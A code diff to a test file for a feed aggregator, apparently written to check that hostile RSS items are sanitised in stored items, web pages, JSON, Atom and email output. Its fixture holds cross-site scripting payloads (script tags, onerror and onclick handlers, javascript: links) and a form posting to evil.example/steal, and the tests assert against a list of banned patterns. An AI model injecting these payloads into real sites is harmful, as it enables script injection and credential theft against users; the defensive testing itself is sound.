@@ -26,7 +26,6 @@ DOCS: dict[str, bytes] = {
 <item><title>&lt;script&gt;alert(1)&lt;/script&gt;Attack &lt;b onmouseover=alert(2)&gt;bold&lt;/b&gt;</title>
 <link>javascript:alert(3)</link><guid>xss-1</guid>
 <dc:creator>&lt;img src=x onerror=alert(4)&gt;Mallory</dc:creator>
-<pubDate>Mon, 15 Jun 2026 10:00:00 GMT</pubDate>
 <description>&lt;style&gt;body{display:none}&lt;/style&gt;&lt;form action="https://evil.example/steal"&gt;&lt;input name=p&gt;&lt;/form&gt;&lt;iframe src="https://evil.example/"&gt;&lt;/iframe&gt;&lt;a href="javascript:alert(5)"&gt;click&lt;/a&gt; &lt;a href="data:text/html,hi"&gt;data&lt;/a&gt; &lt;p onclick="steal()"&gt;Diffusion models para&lt;/p&gt;&lt;script&gt;alert(6)&lt;/script&gt;</description></item>
 <item><title>Bidi \u202eevil\u202c and control \x01\x07 chars</title><link>https://evil.example/bidi</link>
 <pubDate>Fri, 31 Dec 9999 23:59:59 GMT</pubDate><description>x</description></item>
@@ -74,7 +73,7 @@ def ingested(
         + '\n[interests]\ntext = "diffusion models and reinforcement learning"\n'
     )
     url = f"sqlite:///{tmp / 'hostile.db'}"
-    settings = Settings(database_url=url, feeds_file=feeds, total_timeout=60)  # type: ignore[call-arg]
+    settings = Settings(database_url=url, feeds_file=feeds, total_timeout=60, rate_limit="100000/second")  # type: ignore[call-arg]
     engine = make_engine(url)
     upgrade(engine)
     before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
@@ -123,6 +122,7 @@ def test_scripts_handlers_and_bad_urls_never_stored_as_active_content(ingested: 
     items = _items(engine, "xss.xml")
     first = items[0]
     assert first.title.startswith("Attack") and "bold" in first.title and "<" not in first.title
+    assert first.date_from_fetch  # it had no date
     assert first.url is None  # a javascript: link is no link
     assert first.authors == ["Mallory"]
     for field in (first.summary, first.summary_html or ""):
@@ -175,8 +175,19 @@ def test_a_100000_item_feed_is_capped_not_fatal(ingested: tuple) -> None:
         assert feed is not None and "100000 entries" in (feed.parse_problems or "")
 
 
-def test_pages_and_json_show_nothing_hostile(ingested: tuple) -> None:
+def test_pages_json_atom_and_email_show_nothing_hostile(ingested: tuple) -> None:
     settings, engine, _ = ingested
+    from aggregator import readers
+    from aggregator.mail.compose import week_label
+
+    with session_factory(engine)() as s:
+        readers.ensure_default_topics(s)
+        reader = readers.create_reader(s, "victim@example.org")
+        readers.subscribe(s, reader.reader_id, "diffusion-models")
+        s.commit()
+    today = __import__("datetime").date.today()
+    next_week = week_label(today + __import__("datetime").timedelta(days=7))  # its email covers today
+    bearer = {"Authorization": f"Bearer {reader.token}"}
     with TestClient(create_app(settings, engine)) as client:
         pages, items = [], []
         for params in ({"limit": 500}, {"limit": 500, "date": "2026-06-15"}):
@@ -184,7 +195,12 @@ def test_pages_and_json_show_nothing_hostile(ingested: tuple) -> None:
             pages += [resp.text, client.get("/", params=params).text]
             items += [i for i in resp.json()["items"] if i["url"] is None or "evil.example" in i["url"]][:30]
         pages += [client.get(f"/api/items/{item['id']}").text for item in items]
-    assert any("Attack" in p for p in pages)
+        atom = client.get("/api/me/digest.atom", params={"token": reader.feed_token})
+        email = client.get("/api/me/email/preview", params={"week": next_week}, headers=bearer)
+        me = client.get("/api/me/digest", params={"limit": 200}, headers=bearer)
+    assert atom.status_code == email.status_code == me.status_code == 200
+    pages += [atom.text, email.text, me.text]
+    assert all("Attack" in p for p in (pages[0], pages[1], atom.text, email.text, me.text))
     for page in pages:
         for bad in ("<script>alert", "onerror=", "onmouseover=", "javascript:alert", "\u202e"):
             assert bad not in page, bad
